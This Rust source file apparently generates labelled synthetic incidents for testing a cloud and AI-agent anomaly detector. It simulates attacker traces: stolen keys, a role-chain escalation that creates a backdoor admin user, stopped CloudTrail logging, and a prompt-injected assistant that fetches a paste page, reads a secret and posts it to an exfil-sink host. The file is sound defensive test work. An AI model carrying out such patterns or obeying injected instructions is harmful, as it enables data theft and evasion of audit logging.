//! Labelled scenarios: incidents and legitimate changes injected into the
//! simulated enterprise, each with ground truth in `labels.jsonl`.

use std::str::FromStr;

use fastrand::Rng;
use serde_json::json;

use crate::org::*;
use crate::record::*;
use crate::rng;
use crate::world::{Hour, Simulation, ToolCall, record_offset};
use crate::{Config, DAY, HOUR};

#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Kind {
    CredentialTheft,
    AgentPromptInjection,
    ConfusedDeputy,
    RoleChainEscalation,
    PermissionCreep,
    DormantReactivation,
    LoggingTampered,
    TeamReorg,
    AgentToolRollout,
    BusinessTravel,
    NewDevice,
    NewHire,
    NewDeployment,
}

impl Kind {
    pub const ALL: [Kind; 13] = [
        Kind::CredentialTheft,
        Kind::AgentPromptInjection,
        Kind::ConfusedDeputy,
        Kind::RoleChainEscalation,
        Kind::PermissionCreep,
        Kind::DormantReactivation,
        Kind::LoggingTampered,
        Kind::TeamReorg,
        Kind::AgentToolRollout,
        Kind::BusinessTravel,
        Kind::NewDevice,
        Kind::NewHire,
        Kind::NewDeployment,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Kind::CredentialTheft => "credential-theft",
            Kind::AgentPromptInjection => "agent-prompt-injection",
            Kind::ConfusedDeputy => "confused-deputy",
            Kind::RoleChainEscalation => "role-chain-escalation",
            Kind::PermissionCreep => "permission-creep",
            Kind::DormantReactivation => "dormant-reactivation",
            Kind::LoggingTampered => "logging-tampered",
            Kind::TeamReorg => "team-reorg",
            Kind::AgentToolRollout => "agent-tool-rollout",
            Kind::BusinessTravel => "business-travel",
            Kind::NewDevice => "new-device",
            Kind::NewHire => "new-hire",
            Kind::NewDeployment => "new-deployment",
        }
    }

    /// The category Tenet is expected to give the scenario's deviations.
    pub fn category(self) -> tenet_model::Category {
        use tenet_model::Category::*;
        match self {
            // The injected instructions send a secret to the attacker's
            // endpoint: whatever the path, the outcome is exfiltration by
            // an outside party, which is how independent data labels it too.
            Kind::CredentialTheft
            | Kind::RoleChainEscalation
            | Kind::DormantReactivation
            | Kind::LoggingTampered
            | Kind::AgentPromptInjection => LikelyMalicious,
            Kind::ConfusedDeputy => AbnormalTrustRelationship,
            Kind::PermissionCreep => UnintendedDrift,
            Kind::TeamReorg
            | Kind::AgentToolRollout
            | Kind::BusinessTravel
            | Kind::NewDevice
            | Kind::NewHire
            | Kind::NewDeployment => ExpectedAdaptation,
        }
    }
}

#[derive(Debug, thiserror::Error)]
#[error(
    "unknown scenario `{0}`; known: all, credential-theft, agent-prompt-injection, confused-deputy, role-chain-escalation, permission-creep, dormant-reactivation, logging-tampered, team-reorg, agent-tool-rollout, business-travel, new-device, new-hire, new-deployment"
)]
pub struct UnknownScenario(pub String);

impl FromStr for Kind {
    type Err = UnknownScenario;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        Kind::ALL.into_iter().find(|k| k.name() == s).ok_or_else(|| UnknownScenario(s.to_string()))
    }
}

/// The reporting account that goes quiet and later wakes up.
pub struct Dormant {
    pub user: String,
    pub key: String,
    pub quiet_from: i64,
}

/// A scenario placed in time, with the parties it involves.
pub struct Plan {
    pub kind: Kind,
    /// Seconds from the simulation's start.
    pub at: i64,
    pub person: Option<usize>,
    pub other: Option<usize>,
    pub agent: Option<usize>,
    /// `team-reorg`: when each moved person switches.
    pub switches: Vec<(usize, i64)>,
    /// `agent-tool-rollout`: when each agent adopts the tool.
    pub adoptions: Vec<(usize, i64)>,
    pub dormant: Option<Dormant>,
    /// `business-travel`: away from, back at.
    pub window: Option<(i64, i64)>,
    /// `business-travel`: where to (an index into the destinations).
    pub destination: Option<usize>,
    /// `new-deployment`: the new workload (an index into `org.services`).
    pub service: Option<usize>,
}

impl Plan {
    fn new(kind: Kind, at: i64) -> Plan {
        Plan {
            kind,
            at,
            person: None,
            other: None,
            agent: None,
            switches: vec![],
            adoptions: vec![],
            dormant: None,
            window: None,
            destination: None,
            service: None,
        }
    }

    pub fn reorg_switch(&self, person: usize) -> Option<i64> {
        self.switches.iter().find(|(p, _)| *p == person).map(|(_, t)| *t)
    }

    /// The rolled-out tool and its weight for `agent` at `t`, once adopted.
    pub fn rollout_tool(&self, agent: usize, t: i64) -> Option<(usize, f64)> {
        let (_, since) = self.adoptions.iter().find(|(a, _)| *a == agent)?;
        (t >= *since).then(|| (TOOL_COST_REPORT, (1.5 + (t - since) as f64 / DAY as f64).min(3.0)))
    }

    pub fn dormant(&self) -> Option<&Dormant> {
        self.dormant.as_ref()
    }

    pub(crate) fn label(&self, event_id: String, principal: &str) -> Label {
        Label {
            event_id,
            scenario: self.kind.name().to_string(),
            category: self.kind.category().as_str().to_string(),
            principal: principal.to_string(),
        }
    }
}

/// Places each requested scenario at a time drawn from the seed, after a
/// warm-up long enough for baselines to form.
pub fn plan(config: &Config, org: &Org) -> Vec<Plan> {
    let total = i64::from(config.days) * DAY;
    let warm = (total as f64 * 0.4) as i64;
    let margin = (total as f64 * 0.08).max(3.0 * HOUR as f64) as i64;
    let mut kinds = config.scenarios.clone();
    kinds.sort();
    kinds.dedup();
    let mut plans = Vec::new();
    for kind in kinds {
        let mut r = rng::rng(config.seed, "scenario", &[kind as u64]);
        let span = (total - margin - warm).max(HOUR);
        // On a working day, in working hours, like the people it imitates.
        let mut at = warm + r.i64(0..span);
        at = at - at.rem_euclid(DAY) + r.i64(13..20) * HOUR;
        let weekday = |t: i64| ((config.start.unix_seconds() + t).div_euclid(DAY) + 3).rem_euclid(7);
        while weekday(at) >= 5 {
            at += DAY;
        }
        if at >= total {
            at -= 3 * DAY;
        }
        let at = at.clamp(0, (total - HOUR).max(0));
        let mut p = Plan::new(kind, at);
        let people_of = |team: usize| (0..org.people.len()).filter(|&i| org.people[i].team == team).collect::<Vec<_>>();
        match kind {
            Kind::CredentialTheft | Kind::LoggingTampered => {
                let keyed: Vec<usize> = (0..org.people.len()).filter(|&i| org.people[i].iam_user.is_some()).collect();
                let pick = if kind == Kind::CredentialTheft { 0 } else { 1 };
                p.person = keyed.get(pick.min(keyed.len().saturating_sub(1))).copied();
            }
            Kind::RoleChainEscalation => {
                let devs = people_of(TEAM_PAYMENTS);
                p.person = devs.get(r.usize(..devs.len().max(1))).copied();
            }
            Kind::AgentPromptInjection | Kind::ConfusedDeputy => {
                let assistants: Vec<usize> = (0..org.agents.len())
                    .filter(|&a| org.agents[a].kind == AgentKind::Assistant && org.agents[a].users.len() >= 2)
                    .collect();
                p.agent = assistants
                    .get(if kind == Kind::ConfusedDeputy { assistants.len().saturating_sub(1) } else { 0 })
                    .copied();
                if let Some(a) = p.agent {
                    let users = &org.agents[a].users;
                    p.person = users.first().copied();
                    p.other = users.get(1).copied();
                }
            }
            Kind::TeamReorg => {
                // The analytics team moves into the new ML group, person by
                // person over two days.
                for (i, person) in people_of(TEAM_ANALYTICS).into_iter().enumerate() {
                    p.switches.push((person, at + (i as i64 % 3) * DAY));
                }
                p.person = (0..org.people.len()).find(|&i| org.people[i].team == TEAM_SECOPS);
            }
            Kind::AgentToolRollout => {
                let assistants: Vec<usize> =
                    (0..org.agents.len()).filter(|&a| org.agents[a].kind == AgentKind::Assistant).collect();
                for (i, a) in assistants.into_iter().enumerate() {
                    p.adoptions.push((a, at + HOUR + i as i64 * 6 * HOUR));
                }
            }
            Kind::DormantReactivation => {
                let mut k = rng::rng(config.seed, "dormant", &[]);
                p.dormant = Some(Dormant {
                    user: format!("svc-finance-reports-{}", rng::hex(&mut k, 4)),
                    key: format!("AKIA{}", rng::base32(&mut k, 16)),
                    quiet_from: (total as f64 * 0.12) as i64,
                });
            }
            Kind::PermissionCreep => {
                p.person = people_of(TEAM_PLATFORM).first().copied();
            }
            Kind::BusinessTravel | Kind::NewDevice | Kind::NewHire | Kind::NewDeployment => {
                let taken: Vec<usize> = plans.iter().filter_map(|q: &Plan| q.person).collect();
                crate::change::plan(kind, &mut p, org, config, &mut r, &taken);
            }
        }
        plans.push(p);
    }
    plans
}

/// The scenarios' fixed events, with their labels.
pub fn fixed_events(sim: &Simulation) -> Vec<(Record, Vec<Label>)> {
    let mut out = Vec::new();
    for plan in &sim.plans {
        let mut r = rng::rng(sim.config.seed, "scenario-events", &[plan.kind as u64]);
        let mut hour = Hour::default();
        let principal = match plan.kind {
            Kind::CredentialTheft => credential_theft(sim, plan, &mut r, &mut hour),
            Kind::AgentPromptInjection => prompt_injection(sim, plan, &mut r, &mut hour),
            Kind::ConfusedDeputy => confused_deputy(sim, plan, &mut r, &mut hour),
            Kind::RoleChainEscalation => role_chain(sim, plan, &mut r, &mut hour),
            Kind::PermissionCreep => permission_creep(sim, plan, &mut r, &mut hour),
            Kind::DormantReactivation => dormant(sim, plan, &mut r, &mut hour),
            Kind::LoggingTampered => logging_tampered(sim, plan, &mut r, &mut hour),
            Kind::TeamReorg => team_reorg(sim, plan, &mut r, &mut hour),
            Kind::AgentToolRollout => tool_rollout(sim, plan, &mut r, &mut hour),
            Kind::BusinessTravel | Kind::NewDevice | Kind::NewHire | Kind::NewDeployment => {
                crate::change::fixed_events(sim, plan, &mut r, &mut hour)
            }
        };
        let Some(principal) = principal else { continue };
        // Every fixed event of a scenario is ground truth, unless the
        // scenario chose its labels itself.
        if hour.labels.is_empty() {
            for rec in hour.records {
                let labels = ids_of(&rec).into_iter().map(|id| plan.label(id, &principal)).collect();
                out.push((rec, labels));
            }
        } else {
            // Labels chosen by the scenario travel with the record that
            // holds their event, so a record cut off by the end of the run
            // takes its labels with it.
            let mut labels = std::mem::take(&mut hour.labels);
            for rec in hour.records {
                let ids: std::collections::HashSet<String> = ids_of(&rec).into_iter().collect();
                let (mine, rest): (Vec<Label>, Vec<Label>) =
                    labels.into_iter().partition(|l| ids.contains(&l.event_id));
                labels = rest;
                out.push((rec, mine));
            }
        }
    }
    out
}

/// The stable ids Tenet's adapters assign a record's events.
pub fn ids_of(r: &Record) -> Vec<String> {
    match r {
        Record::Trail(t) => vec![t.id.clone()],
        Record::Okta(o) => vec![o.uuid.clone()],
        Record::Audit(a) => vec![a.id.clone()],
        Record::Trace(t) => t.spans.iter().map(|s| span_event_id(&s.trace_id, &s.span_id)).collect(),
    }
}

const ATTACKER_IP: &str = "185.220.101.47";
const ATTACKER_UA: &str = "aws-cli/1.18.69 Python/3.6.9 Linux/4.15.0-1065-aws botocore/1.16.19";

fn iam_user_who(sim: &Simulation, person: usize) -> Option<(Who, String)> {
    let u = sim.org.people[person].iam_user.as_ref()?;
    let arn = format!("arn:aws:iam::{}:user/{}", sim.org.account(u.account).id, u.name);
    Some((Who::IamUser { account: u.account, name: u.name.clone(), key: u.access_key.clone() }, arn))
}

fn call(source: &'static str, name: &'static str, read_only: bool, target: Target) -> Call {
    Call { source, name, read_only, target }
}

/// A person's long-lived access key used from new infrastructure: discovery
/// burst across regions, then bulk reads of customer data.
fn credential_theft(sim: &Simulation, plan: &Plan, r: &mut Rng, out: &mut Hour) -> Option<String> {
    let person = plan.person?;
    let (who, arn) = iam_user_who(sim, person)?;
    let account = sim.org.people[person].iam_user.as_ref()?.account;
    let mut t = plan.at;
    let mut step = |r: &mut Rng, call: Call, region: Option<&'static str>, denied: bool, out: &mut Hour| {
        t += r.i64(2..25);
        let mut trail = sim.call_trail(r, account, t, call, who.clone(), ATTACKER_IP.into(), ATTACKER_UA.into());
        if let Some(region) = region {
            trail.region = region;
        }
        if denied {
            trail.error = Some(("AccessDenied", format!("User: {arn} is not authorized to perform: {}", call.name)));
        }
        out.push(Record::Trail(trail));
    };
    step(r, call("sts.amazonaws.com", "GetCallerIdentity", true, Target::NoResource), None, false, out);
    // The key's own policies do not reach IAM: discovery runs into walls.
    for name in ["ListUsers", "ListRoles", "ListAttachedUserPolicies", "ListGroupsForUser"] {
        step(r, call("iam.amazonaws.com", name, true, Target::NoResource), None, true, out);
    }
    step(r, call("s3.amazonaws.com", "ListBuckets", true, Target::NoResource), None, false, out);
    for region in ["us-west-2", "eu-central-1", "ap-southeast-1", "sa-east-1"] {
        step(r, call("ec2.amazonaws.com", "DescribeInstances", true, Target::NoResource), Some(region), false, out);
    }
    step(r, call("secretsmanager.amazonaws.com", "ListSecrets", true, Target::NoResource), None, true, out);
    step(r, call("s3.amazonaws.com", "ListObjectsV2", true, Target::Bucket(BUCKET_CUSTOMER)), None, false, out);
    for _ in 0..25 {
        step(r, call("s3.amazonaws.com", "GetObject", true, Target::Object(BUCKET_CUSTOMER)), None, false, out);
    }
    Some(arn)
}

/// An assistant, steered by content it fetched, reads a secret through a
/// tool and posts it to an endpoint outside the company.
fn prompt_injection(sim: &Simulation, plan: &Plan, r: &mut Rng, out: &mut Hour) -> Option<String> {
    let (agent, user) = (plan.agent?, plan.person?);
    let a = &sim.org.agents[agent];
    let principal = format!("agent:{}", a.id);
    let calls = [
        ToolCall { url: Some("https://paste.rs/x7Qz2/README.md".into()), ..ToolCall::normal(TOOL_FETCH_URL) },
        ToolCall::normal(TOOL_GET_SECRET),
        ToolCall { url: Some("https://collect.exfil-sink.net/v1/upload".into()), ..ToolCall::normal(TOOL_HTTP_POST) },
    ];
    let mut ids = Vec::new();
    let mut trace = Hour::default();
    sim.agent_trace(r, agent, user, plan.at, &calls, &mut trace, Some(&mut ids));
    for id in &ids {
        out.labels.push(plan.label(id.clone(), &principal));
    }
    out.records.extend(trace.records);
    Some(principal)
}

/// An assistant serving several people uses one person's access on behalf
/// of another: the trace is for `other`, the AWS session carries `person`.
fn confused_deputy(sim: &Simulation, plan: &Plan, r: &mut Rng, out: &mut Hour) -> Option<String> {
    let (agent, owner_of_access, asker) = (plan.agent?, plan.person?, plan.other?);
    let principal = format!("agent:{}", sim.org.agents[agent].id);
    let mut ids = Vec::new();
    let mut trace = Hour::default();
    for k in 0..3 {
        let calls = [ToolCall { identity: Some(owner_of_access), ..ToolCall::normal(TOOL_READ_CUSTOMER) }];
        sim.agent_trace(r, agent, asker, plan.at + k * 400, &calls, &mut trace, Some(&mut ids));
    }
    for id in &ids {
        out.labels.push(plan.label(id.clone(), &principal));
    }
    out.records.extend(trace.records);
    Some(principal)
}

#[allow(clippy::too_many_arguments)]
fn assume(
    sim: &Simulation,
    r: &mut Rng,
    at: i64,
    who: Who,
    account: usize,
    role: &str,
    session: &str,
    key: &str,
    ip: &str,
    ua: &str,
) -> Trail {
    let acct = sim.org.account(account).id.clone();
    let role_arn = sim.org.role_arn(account, role);
    let mut t = sim.call_trail(
        r,
        account,
        at,
        call("sts.amazonaws.com", "AssumeRole", true, Target::NoResource),
        who,
        ip.into(),
        ua.into(),
    );
    t.request = Some(json!({"roleArn": role_arn, "roleSessionName": session, "durationSeconds": 3600}));
    t.response = Some(json!({
        "credentials": {"accessKeyId": key, "expiration": tenet_model::Timestamp::from_unix_seconds(sim.abs(at) + 3600).to_string()},
        "assumedRoleUser": {"assumedRoleId": format!("{}:{session}", crate::render::role_id(role)), "arn": format!("arn:aws:sts::{acct}:assumed-role/{role}/{session}")},
    }));
    t.resources = vec![("AWS::IAM::Role", role_arn)];
    t
}

/// A developer's session assumes a deploy role, from there a cross-account
/// role, from there an admin role, and creates a backdoor user.
fn role_chain(sim: &Simulation, plan: &Plan, r: &mut Rng, out: &mut Hour) -> Option<String> {
    let dev = plan.person?;
    let person = &sim.org.people[dev];
    let ip = format!("{}{}", sim.org.office_prefix, 10 + dev % 40);
    let ua = person.laptop_ua.clone();
    let mut t = plan.at;
    out.push(Record::Trail(sim.assume_role_with_saml(r, dev, TEAM_PAYMENTS, DEV, sim.abs(t), &ip)));
    let start = sim.sso_who(dev, TEAM_PAYMENTS, DEV, t);
    let keys: Vec<String> = (0..3).map(|_| format!("ASIA{}", rng::base32(r, 16))).collect();
    let session = person.email.split('@').next().unwrap_or("dev").to_string();
    let hops = [(DEV, "dev-deploy"), (PROD, "prod-cross-account-readonly"), (PROD, "prod-break-glass-admin")];
    let mut who = start;
    for (i, (account, role)) in hops.iter().enumerate() {
        t += r.i64(60..400);
        out.push(Record::Trail(assume(sim, r, t, who.clone(), *account, role, &session, &keys[i], &ip, &ua)));
        who = Who::Role {
            account: *account,
            role: role.to_string(),
            session: session.clone(),
            key: keys[i].clone(),
            source_identity: None,
            mfa: false,
            federated: None,
        };
    }
    let backdoor = format!("support-{}", rng::hex(r, 4));
    for (name, req) in [
        ("ListUsers", None),
        ("CreateUser", Some(json!({"userName": backdoor}))),
        (
            "AttachUserPolicy",
            Some(json!({"userName": backdoor, "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"})),
        ),
        ("CreateAccessKey", Some(json!({"userName": backdoor}))),
    ] {
        t += r.i64(20..120);
        let mut trail = sim.call_trail(
            r,
            PROD,
            t,
            call("iam.amazonaws.com", name, name == "ListUsers", Target::NoResource),
            who.clone(),
            ip.clone(),
            ua.clone(),
        );
        trail.request = req;
        out.push(Record::Trail(trail));
    }
    Some(format!("aws:samluser/{}", person.email))
}

/// Grants pile up on a workload role over weeks while what the workload
/// does stays the same.
fn permission_creep(sim: &Simulation, plan: &Plan, r: &mut Rng, out: &mut Hour) -> Option<String> {
    let admin = plan.person?;
    let role = "ingest-lambda-role";
    let role_arn = sim.org.role_arn(DATA, role);
    let total = i64::from(sim.config.days) * DAY;
    let grants = [
        ("AttachRolePolicy", json!({"roleName": role, "policyArn": "arn:aws:iam::aws:policy/AmazonS3FullAccess"})),
        (
            "PutRolePolicy",
            json!({"roleName": role, "policyName": "debug-secrets", "policyDocument": "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"secretsmanager:*\",\"Resource\":\"*\"}]}"}),
        ),
        ("AttachRolePolicy", json!({"roleName": role, "policyArn": "arn:aws:iam::aws:policy/AmazonAthenaFullAccess"})),
        ("AttachRolePolicy", json!({"roleName": role, "policyArn": "arn:aws:iam::aws:policy/IAMReadOnlyAccess"})),
        (
            "PutRolePolicy",
            json!({"roleName": role, "policyName": "kms-any", "policyDocument": "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"kms:*\",\"Resource\":\"*\"}]}"}),
        ),
    ];
    let span = ((total - plan.at) as f64 * 0.8) as i64;
    let ip = format!("{}{}", sim.org.office_prefix, 10 + admin % 40);
    for (i, (name, req)) in grants.into_iter().enumerate() {
        let t = plan.at + span * i as i64 / 5 + r.i64(0..HOUR);
        let who = sim.sso_who(admin, TEAM_PLATFORM, DATA, t);
        let mut trail = sim.call_trail(
            r,
            DATA,
            t,
            call("iam.amazonaws.com", name, false, Target::NoResource),
            who,
            ip.clone(),
            sim.org.people[admin].laptop_ua.clone(),
        );
        trail.request = Some(req);
        trail.resources = vec![("AWS::IAM::Role", role_arn.clone())];
        out.push(Record::Trail(trail));
    }
    Some(role_arn)
}

/// The quiet reporting account wakes up from new infrastructure and reads
/// what it never read.
fn dormant(sim: &Simulation, plan: &Plan, r: &mut Rng, out: &mut Hour) -> Option<String> {
    let d = plan.dormant.as_ref()?;
    let who = Who::IamUser { account: PROD, name: d.user.clone(), key: d.key.clone() };
    let arn = format!("arn:aws:iam::{}:user/{}", sim.org.account(PROD).id, d.user);
    let ip = "45.137.21.9";
    let ua = "python-requests/2.31.0";
    let mut t = plan.at;
    let mut login = sim.call_trail(
        r,
        PROD,
        t,
        call("signin.amazonaws.com", "ConsoleLogin", false, Target::NoResource),
        who.clone(),
        ip.into(),
        "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0".into(),
    );
    login.console = true;
    login.response = Some(json!({"ConsoleLogin": "Success"}));
    out.push(Record::Trail(login));
    for (source, name, target) in [
        ("iam.amazonaws.com", "ListUsers", Target::NoResource),
        ("iam.amazonaws.com", "ListAccessKeys", Target::NoResource),
        ("s3.amazonaws.com", "ListBuckets", Target::NoResource),
        ("s3.amazonaws.com", "ListObjectsV2", Target::Bucket(BUCKET_CUSTOMER)),
    ] {
        t += r.i64(30..200);
        let mut trail = sim.call_trail(r, PROD, t, call(source, name, true, target), who.clone(), ip.into(), ua.into());
        if source == "iam.amazonaws.com" {
            trail.error = Some(("AccessDenied", format!("User: {arn} is not authorized to perform: iam:{name}")));
        }
        out.push(Record::Trail(trail));
    }
    for _ in 0..12 {
        t += r.i64(5..40);
        out.push(Record::Trail(sim.call_trail(
            r,
            PROD,
            t,
            call("s3.amazonaws.com", "GetObject", true, Target::Object(BUCKET_CUSTOMER)),
            who.clone(),
            ip.into(),
            ua.into(),
        )));
    }
    Some(arn)
}

/// Logging turned down (data-event selectors cleared, a trail stopped),
/// then data read, then logging restored.
fn logging_tampered(sim: &Simulation, plan: &Plan, r: &mut Rng, out: &mut Hour) -> Option<String> {
    let person = plan.person?;
    let (who, arn) = iam_user_who(sim, person)?;
    let account = sim.org.people[person].iam_user.as_ref()?.account;
    let trail_arn = format!(
        "arn:aws:cloudtrail:{}:{}:trail/acme-data-events",
        sim.org.account(account).region,
        sim.org.account(account).id
    );
    let ip = "91.92.251.103";
    let ua = "aws-cli/2.9.0 Python/3.9.11 Linux/5.4.0 exe/x86_64.ubuntu.20";
    let mut t = plan.at;
    let mut push = |r: &mut Rng,
                    source: &'static str,
                    name: &'static str,
                    read_only: bool,
                    target: Target,
                    req: Option<serde_json::Value>,
                    out: &mut Hour| {
        t += r.i64(10..90);
        let mut trail =
            sim.call_trail(r, account, t, call(source, name, read_only, target), who.clone(), ip.into(), ua.into());
        if let Some(req) = req {
            trail.request = Some(req);
            trail.resources = vec![("AWS::CloudTrail::Trail", trail_arn.clone())];
        }
        out.push(Record::Trail(trail));
    };
    push(r, "cloudtrail.amazonaws.com", "DescribeTrails", true, Target::NoResource, None, out);
    push(
        r,
        "cloudtrail.amazonaws.com",
        "PutEventSelectors",
        false,
        Target::NoResource,
        Some(
            json!({"trailName": "acme-data-events", "eventSelectors": [{"readWriteType": "WriteOnly", "includeManagementEvents": true, "dataResources": []}]}),
        ),
        out,
    );
    push(
        r,
        "cloudtrail.amazonaws.com",
        "StopLogging",
        false,
        Target::NoResource,
        Some(json!({"name": "acme-data-events"})),
        out,
    );
    for _ in 0..15 {
        push(r, "s3.amazonaws.com", "GetObject", true, Target::Object(BUCKET_FINANCE), None, out);
    }
    push(
        r,
        "cloudtrail.amazonaws.com",
        "StartLogging",
        false,
        Target::NoResource,
        Some(json!({"name": "acme-data-events"})),
        out,
    );
    Some(arn)
}

/// The analytics team moves into the new ML group: memberships change in
/// the identity provider, then each member works with the new access from
/// their next session on. Labels: the membership changes here; the moved
/// people's first day under the new group is labelled as it is generated.
fn team_reorg(sim: &Simulation, plan: &Plan, r: &mut Rng, out: &mut Hour) -> Option<String> {
    let admin = plan.person?;
    let a = &sim.org.people[admin];
    let actor = (
        a.okta_id.clone(),
        "User",
        a.email.clone(),
        format!("{} {}", crate::world::cap(a.first), crate::world::cap(a.last)),
    );
    let ml = &sim.org.teams[TEAM_ML];
    let analytics = &sim.org.teams[TEAM_ANALYTICS];
    for &(person, switch) in &plan.switches {
        let p = &sim.org.people[person];
        let target_user = (
            p.okta_id.clone(),
            "User",
            p.email.clone(),
            format!("{} {}", crate::world::cap(p.first), crate::world::cap(p.last)),
        );
        for (k, (event_type, message, group)) in [
            ("group.user_membership.add", "Add user to group membership", (ml.okta_group_id.clone(), "team-ml")),
            (
                "group.user_membership.remove",
                "Remove user from group membership",
                (analytics.okta_group_id.clone(), "team-analytics"),
            ),
        ]
        .into_iter()
        .enumerate()
        {
            let rec = Record::Okta(Okta {
                time_ms: sim.abs(switch - 1800 + k as i64 * 5) * 1000 + r.i64(0..1000),
                uuid: rng::uuid(r),
                event_type,
                message,
                actor: actor.clone(),
                ip: format!("{}{}", sim.org.office_prefix, 10 + admin % 40),
                ua: crate::world::browser_ua(admin),
                result: "SUCCESS",
                reason: None,
                session: Some(format!("102{}", rng::base62(r, 22))),
                credential: None,
                targets: vec![target_user.clone(), (group.0, "UserGroup", group.1.into(), group.1.into())],
                place: a.home,
                factor: None,
                behaviors: None,
            });
            out.labels.push(plan.label(ids_of(&rec)[0].clone(), &format!("user:{}", p.email)));
            out.records.push(rec);
        }
        // With the new group comes a new role: the person signs in to it.
        let saml = sim.assume_role_with_saml(
            r,
            person,
            TEAM_ML,
            DATA,
            sim.abs(switch + 600),
            &format!("{}{}", sim.org.office_prefix, 10 + person % 40),
        );
        out.labels.push(plan.label(saml.id.clone(), &format!("user:{}", p.email)));
        out.records.push(Record::Trail(saml));
    }
    Some("team-analytics".into())
}

/// A new tool (`cost_report`) is registered on the AWS MCP server for the
/// assistant fleet and adopted by one agent after another.
fn tool_rollout(sim: &Simulation, plan: &Plan, r: &mut Rng, out: &mut Hour) -> Option<String> {
    let rec = sim.tools_changed(r, "aws-mcp", plan.at);
    let principal = "tool:aws-mcp/cost_report".to_string();
    for id in ids_of(&rec) {
        out.labels.push(plan.label(id, &principal));
    }
    out.records.push(rec);
    Some(principal)
}

/// Labels for events generated hour by hour that belong to a scenario: the
/// moved people's first day in their new group, each agent's first day
/// with the rolled-out tool, the first days of a trip, a new laptop or a
/// new hire.
pub fn ongoing_labels(
    sim: &Simulation,
    person: Option<usize>,
    agent_trace: Option<(usize, bool)>,
    t: i64,
    records: &[Record],
) -> Vec<Label> {
    let mut labels = Vec::new();
    for plan in &sim.plans {
        match plan.kind {
            Kind::TeamReorg => {
                if let Some(p) = person
                    && let Some(switch) = plan.reorg_switch(p)
                    && t >= switch
                    && t < switch + DAY
                {
                    let principal = format!("user:{}", sim.org.person(p).email);
                    for r in records {
                        for id in ids_of(r) {
                            labels.push(plan.label(id, &principal));
                        }
                    }
                }
            }
            Kind::BusinessTravel | Kind::NewDevice | Kind::NewHire => {
                if let Some(p) = person
                    && let Some((from, until)) = crate::change::person_window(sim, plan, p)
                    && t + HOUR > from
                    && t < until
                {
                    let principal = format!("user:{}", sim.org.person(p).email);
                    for r in records {
                        for id in ids_of(r) {
                            labels.push(plan.label(id, &principal));
                        }
                    }
                }
            }
            Kind::AgentToolRollout => {
                if let Some((agent, uses_tool)) = agent_trace
                    && uses_tool
                    && let Some((_, since)) = plan.adoptions.iter().find(|(a, _)| *a == agent)
                    && t >= *since
                    && t < since + 2 * DAY
                {
                    let principal = format!("agent:{}", sim.org.agents[agent].id);
                    for r in records {
                        for id in ids_of(r) {
                            labels.push(plan.label(id, &principal));
                        }
                    }
                }
            }
            _ => {}
        }
    }
    labels
}

/// Seconds from the start of a record, for tests.
pub fn offset(sim: &Simulation, r: &Record) -> i64 {
    record_offset(sim, r)
}
